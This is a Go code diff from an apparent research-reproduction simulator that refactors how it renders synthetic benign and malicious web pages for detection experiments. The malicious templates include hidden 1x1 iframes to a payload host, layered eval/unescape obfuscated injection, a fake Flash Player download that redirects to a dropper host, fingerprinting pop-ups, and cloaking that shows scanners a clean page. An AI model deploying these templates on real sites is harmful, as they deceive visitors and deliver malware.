@@ -2,7 +2,9 @@ package web
 
 import (
 	"fmt"
+	"strconv"
 	"strings"
+	"sync"
 
 	"repro/internal/jsengine"
 	"repro/internal/simrand"
@@ -26,85 +28,137 @@ type renderCtx struct {
 	oauthHost string
 }
 
-// renderBenignPage builds an ordinary content page. A slice of benign
-// sites carries the analytics loader or OAuth relay iframe — the shapes
-// behind the paper's false-positive case studies.
-func renderBenignPage(s *Site, path string, rng *simrand.Source) string {
-	var b strings.Builder
-	title := fmt.Sprintf("%s — %s", strings.Title(strings.SplitN(s.Host, ".", 2)[0]), s.Category)
-	b.WriteString("<html><head><title>")
-	b.WriteString(title)
-	b.WriteString("</title></head><body>\n")
-	b.WriteString(fmt.Sprintf("<h1>%s</h1>\n", title))
+// renderScratch is one render's working state: the page substream and
+// the buffer the body is assembled in. Both come from scratchPool and
+// never escape a render — the response gets an exact-size copy of the
+// buffer — so a miss allocates only the body and the response.
+type renderScratch struct {
+	rng simrand.Source
+	buf []byte
+}
+
+var scratchPool = sync.Pool{New: func() any { return new(renderScratch) }}
+
+// Every renderer appends a whole page to dst: the benign body, then the
+// kind's payload, then pageClose. Draws happen in the order the markup
+// is written, except where a renderer says otherwise.
+const pageClose = "</body></html>\n"
+
+// appendBenignPage appends an ordinary content page.
+func appendBenignPage(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
+	return append(appendBenignBody(dst, s, path, rng), pageClose...)
+}
+
+// appendBenignBody appends an ordinary content page up to its closing
+// tags. A slice of benign sites carries the analytics loader or OAuth
+// relay iframe — the shapes behind the paper's false-positive case
+// studies.
+func appendBenignBody(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
+	dst = append(dst, "<html><head><title>"...)
+	dst = appendTitle(dst, s)
+	dst = append(dst, "</title></head><body>\n<h1>"...)
+	dst = appendTitle(dst, s)
+	dst = append(dst, "</h1>\n"...)
 	paras := rng.Range(2, 5)
 	for i := 0; i < paras; i++ {
-		b.WriteString("<p>")
+		dst = append(dst, "<p>"...)
 		words := rng.Range(20, 60)
 		for w := 0; w < words; w++ {
-			b.WriteString(rng.Word(3, 9))
-			b.WriteByte(' ')
+			dst = rng.AppendWord(dst, 3, 9)
+			dst = append(dst, ' ')
 		}
-		b.WriteString("</p>\n")
+		dst = append(dst, "</p>\n"...)
 	}
 	// Same-site navigation links.
 	for _, p := range s.Pages {
 		if p != path {
-			b.WriteString(fmt.Sprintf("<a href=\"http://%s%s\">%s</a>\n", s.Host, p, strings.TrimPrefix(p, "/")))
+			dst = append(dst, `<a href="http://`...)
+			dst = append(dst, s.Host...)
+			dst = append(dst, p...)
+			dst = append(dst, `">`...)
+			dst = append(dst, strings.TrimPrefix(p, "/")...)
+			dst = append(dst, "</a>\n"...)
 		}
 	}
 	if s.HasAnalytics {
-		b.WriteString(analyticsSnippet(s))
+		dst = appendAnalyticsSnippet(dst, s)
 	}
 	if s.HasOAuthFrame {
-		b.WriteString(oauthRelaySnippet(s))
+		dst = appendOAuthRelaySnippet(dst, s)
 	}
 	if s.HasBrochure {
-		b.WriteString(fmt.Sprintf("<a href=\"http://%s/brochure.pdf\">Download our brochure (PDF)</a>\n", s.Host))
+		dst = append(dst, `<a href="http://`...)
+		dst = append(dst, s.Host...)
+		dst = append(dst, "/brochure.pdf\">Download our brochure (PDF)</a>\n"...)
 	}
-	b.WriteString("</body></html>\n")
-	return b.String()
+	return dst
 }
 
-// analyticsSnippet is the Google-Analytics-loader shape of §V-E Code 8.
-func analyticsSnippet(s *Site) string {
-	return `<script>
+// appendTitle appends the page title: the host's first label with its
+// first letter upper-cased, then the category. Generated hosts
+// (uniqueDomain) have an [a-z0-9]+ first label, for which this is what
+// strings.Title gives.
+func appendTitle(dst []byte, s *Site) []byte {
+	label, _, _ := strings.Cut(s.Host, ".")
+	n := len(dst)
+	dst = append(dst, label...)
+	if label != "" && 'a' <= dst[n] && dst[n] <= 'z' {
+		dst[n] -= 'a' - 'A'
+	}
+	dst = append(dst, " — "...)
+	return append(dst, s.Category...)
+}
+
+// appendAnalyticsSnippet appends the Google-Analytics-loader shape of
+// §V-E Code 8.
+func appendAnalyticsSnippet(dst []byte, s *Site) []byte {
+	dst = append(dst, `<script>
 (function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.simalytics.net/analytics.js','ga');
-ga('create', 'UA-` + fmt.Sprintf("%08d", len(s.Host)*1234567%99999999) + `-1', 'auto');
+ga('create', 'UA-`...)
+	var digits [20]byte
+	id := strconv.AppendInt(digits[:0], int64(len(s.Host)*1234567%99999999), 10)
+	for i := len(id); i < 8; i++ {
+		dst = append(dst, '0')
+	}
+	dst = append(dst, id...)
+	return append(dst, `-1', 'auto');
 ga('send', 'pageview');
 </script>
-`
+`...)
 }
 
-// oauthRelaySnippet is the 1x1 offscreen OAuth relay of §V-E Code 7.
-func oauthRelaySnippet(s *Site) string {
-	return `<iframe name="oauth2relay503410543" id="oauth2relay503410543"
- src="https://accounts.google.sim/o/oauth2/postmessageRelay?parent=http%3A%2F%2F` + s.Host + `#rpctoken=1510319259"
+// appendOAuthRelaySnippet appends the 1x1 offscreen OAuth relay of §V-E
+// Code 7.
+func appendOAuthRelaySnippet(dst []byte, s *Site) []byte {
+	dst = append(dst, `<iframe name="oauth2relay503410543" id="oauth2relay503410543"
+ src="https://accounts.google.sim/o/oauth2/postmessageRelay?parent=http%3A%2F%2F`...)
+	dst = append(dst, s.Host...)
+	return append(dst, `#rpctoken=1510319259"
  tabindex="-1" style="width: 1px; height: 1px; position: absolute; top: -100px;"></iframe>
-`
+`...)
 }
 
-// renderBlacklistedPage builds a page on a blacklisted domain: ordinary
+// appendBlacklistedPage appends a page on a blacklisted domain: ordinary
 // content that monetizes through a bogus ad network. Detection rests on
 // the domain's blacklist presence, not page structure.
-func renderBlacklistedPage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
-	base := renderBenignPage(s, path, rng)
-	ad := fmt.Sprintf(`<div class="ad-slot"><iframe src="http://%s/banner?zone=%s&pub=%s" width="468" height="60"></iframe></div>
+func appendBlacklistedPage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
+	dst = appendBenignBody(dst, s, path, rng)
+	dst = fmt.Appendf(dst, `<div class="ad-slot"><iframe src="http://%s/banner?zone=%s&pub=%s" width="468" height="60"></iframe></div>
 <!-- %s -->
 `, ctx.adHost, rng.Token(6), s.Host, s.FamilyToken)
-	return strings.Replace(base, "</body>", ad+"</body>", 1)
+	return append(dst, pageClose...)
 }
 
-// renderJSMalwarePage builds a MaliciousJS page in the site's variant.
-func renderJSMalwarePage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
-	base := renderBenignPage(s, path, rng)
-	var payload string
+// appendJSMalwarePage appends a MaliciousJS page in the site's variant.
+func appendJSMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
+	dst = appendBenignBody(dst, s, path, rng)
 	switch s.Variant {
 	case JSTinyIframe:
-		payload = fmt.Sprintf(`<iframe align="right" height="1" name="cwindow" scrolling="NO" src="http://%s/t.php?c=%s" style="border:0 solid #990000;" width="1"></iframe>
+		dst = fmt.Appendf(dst, `<iframe align="right" height="1" name="cwindow" scrolling="NO" src="http://%s/t.php?c=%s" style="border:0 solid #990000;" width="1"></iframe>
 <!-- %s -->
 `, ctx.payloadHost, rng.Token(10), s.FamilyToken)
 	case JSInvisibleIframe:
-		payload = fmt.Sprintf(`<iframe src="https://%s/a.php?t=29&o=pix&f=%s&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
+		dst = fmt.Appendf(dst, `<iframe src="https://%s/a.php?t=29&o=pix&f=%s&g=5" width="1" height="1" framespacing="0" frameborder="no" allowtransparency="true"></iframe>
 <!-- %s -->
 `, ctx.payloadHost, rng.Token(12), s.FamilyToken)
 	case JSObfuscatedInjection:
@@ -115,11 +169,15 @@ func renderJSMalwarePage(s *Site, path string, rng *simrand.Source, ctx renderCt
 		for i := 0; i < layers; i++ {
 			obf = `eval(unescape("` + jsengine.Escape(obf) + `"));`
 		}
-		payload = "<script>var " + s.FamilyToken + " = 1;\n" + obf + "</script>\n"
+		dst = append(dst, "<script>var "...)
+		dst = append(dst, s.FamilyToken...)
+		dst = append(dst, " = 1;\n"...)
+		dst = append(dst, obf...)
+		dst = append(dst, "</script>\n"...)
 	case JSDeceptiveDownload:
-		payload = deceptiveDownloadMarkup(s, rng, ctx)
+		dst = appendDeceptiveDownload(dst, s, rng, ctx)
 	case JSFingerprinting:
-		payload = fmt.Sprintf(`<script>
+		dst = fmt.Appendf(dst, `<script>
 var %s = navigator.userAgent + "|" + screen.width + "x" + screen.height;
 document.addEventListener("mousemove", function() {
   window.open("http://%s/pop?sid=%s");
@@ -127,22 +185,24 @@ document.addEventListener("mousemove", function() {
 </script>
 `, s.FamilyToken, ctx.adHost, rng.Token(8))
 	default:
-		payload = "<!-- " + s.FamilyToken + " -->"
+		dst = append(dst, "<!-- "...)
+		dst = append(dst, s.FamilyToken...)
+		dst = append(dst, " -->"...)
 	}
-	return strings.Replace(base, "</body>", payload+"</body>", 1)
+	return append(dst, pageClose...)
 }
 
-// deceptiveDownloadMarkup is the §V-B fake install prompt: bait text plus
-// an anchor that downloads Flash-Player.exe from the dropper host. A
+// appendDeceptiveDownload appends the §V-B fake install prompt: bait text
+// plus an anchor that downloads Flash-Player.exe from the dropper host. A
 // fraction of these pages also link the dropper's exploit document (an
-// auto-open-JavaScript PDF).
-func deceptiveDownloadMarkup(s *Site, rng *simrand.Source, ctx renderCtx) string {
-	pdfLink := ""
+// auto-open-JavaScript PDF). The prompt's id is drawn before the link
+// token that precedes it in the markup.
+func appendDeceptiveDownload(dst []byte, s *Site, rng *simrand.Source, ctx renderCtx) []byte {
 	if rng.Bool(0.4) {
-		pdfLink = fmt.Sprintf("<a href=\"http://%s/doc/invoice-%s.pdf\">View invoice (PDF)</a>\n", ctx.dropHost, rng.Token(6))
+		dst = fmt.Appendf(dst, "<a href=\"http://%s/doc/invoice-%s.pdf\">View invoice (PDF)</a>\n", ctx.dropHost, rng.Token(6))
 	}
 	id := rng.HexToken(16)
-	return pdfLink + fmt.Sprintf(`<div id="dm_topbar">
+	return fmt.Appendf(dst, `<div id="dm_topbar">
 <a href="data:text/html,%%3Chtml%%3E%%3Cscript%%3Ewindow.location.href%%3D%%22http%%3A%%2F%%2F%s%%2Fc%%3Fx%%3D%s%%26downloadAs%%3DFlash-Player.exe%%22%%3B%%3C/script%%3E"
  data-dm-title="Flash Player" data-dm-format="3" data-dm-filesize="1.1" target="_blank"
  data-dm-href="http://%s/downloader?id=%s" data-dm-filename="null" class="download_link">
@@ -154,27 +214,31 @@ func deceptiveDownloadMarkup(s *Site, rng *simrand.Source, ctx renderCtx) string
 `, ctx.dropHost, rng.HexToken(24), ctx.dropHost, id, s.FamilyToken)
 }
 
-// renderFlashMalwarePage embeds the AdFlash-style movie from the SWF CDN.
-func renderFlashMalwarePage(s *Site, path string, rng *simrand.Source, ctx renderCtx) string {
-	base := renderBenignPage(s, path, rng)
-	n := rng.Range(10, 99)
-	embed := fmt.Sprintf(`<embed src="http://%s/swf/AdFlash%d.swf" type="application/x-shockwave-flash" width="100%%" height="100%%" wmode="transparent"></embed>
+// appendFlashMalwarePage appends a page embedding the AdFlash-style movie
+// from the SWF CDN.
+func appendFlashMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source, ctx renderCtx) []byte {
+	dst = appendBenignBody(dst, s, path, rng)
+	dst = fmt.Appendf(dst, `<embed src="http://%s/swf/AdFlash%d.swf" type="application/x-shockwave-flash" width="100%%" height="100%%" wmode="transparent"></embed>
 <!-- %s -->
-`, ctx.swfHost, n, s.FamilyToken)
-	return strings.Replace(base, "</body>", embed+"</body>", 1)
+`, ctx.swfHost, rng.Range(10, 99), s.FamilyToken)
+	return append(dst, pageClose...)
 }
 
-// renderMiscMalwarePage builds a page with family markers but no
+// appendMiscMalwarePage appends a page with family markers but no
 // structural category evidence: the Miscellaneous bucket.
-func renderMiscMalwarePage(s *Site, path string, rng *simrand.Source) string {
-	base := renderBenignPage(s, path, rng)
-	marker := fmt.Sprintf("<script>var %s = \"%s\";</script>\n", s.FamilyToken, rng.Token(16))
-	return strings.Replace(base, "</body>", marker+"</body>", 1)
+func appendMiscMalwarePage(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
+	dst = appendBenignBody(dst, s, path, rng)
+	dst = append(dst, "<script>var "...)
+	dst = append(dst, s.FamilyToken...)
+	dst = append(dst, ` = "`...)
+	dst = append(dst, rng.Token(16)...)
+	dst = append(dst, "\";</script>\n"...)
+	return append(dst, pageClose...)
 }
 
 // renderLandingPage is the final page of a redirect chain: an offerwall
 // carrying the family token.
-func renderLandingPage(s *Site, rng *simrand.Source, ctx renderCtx) string {
+func renderLandingPage(s *Site, ctx renderCtx) string {
 	return fmt.Sprintf(`<html><head><title>Special Offer</title></head><body>
 <h1>Your download is ready</h1>
 <a href="http://%s/get?f=installer.exe">Download now</a>
@@ -201,11 +265,11 @@ func buildAdFlashMovie(rng *simrand.Source) []byte {
 		Encode()
 }
 
-// cleanVariant strips malicious payloads for cloaked responses: the same
-// page rendered as if it were benign.
-func cleanVariant(s *Site, path string, rng *simrand.Source) string {
+// appendCleanVariant appends the page a cloaked site shows scanner bots:
+// the same page rendered as if it were benign.
+func appendCleanVariant(dst []byte, s *Site, path string, rng *simrand.Source) []byte {
 	clone := *s
 	clone.HasAnalytics = false
 	clone.HasOAuthFrame = false
-	return renderBenignPage(&clone, path, rng)
+	return appendBenignPage(dst, &clone, path, rng)
 }
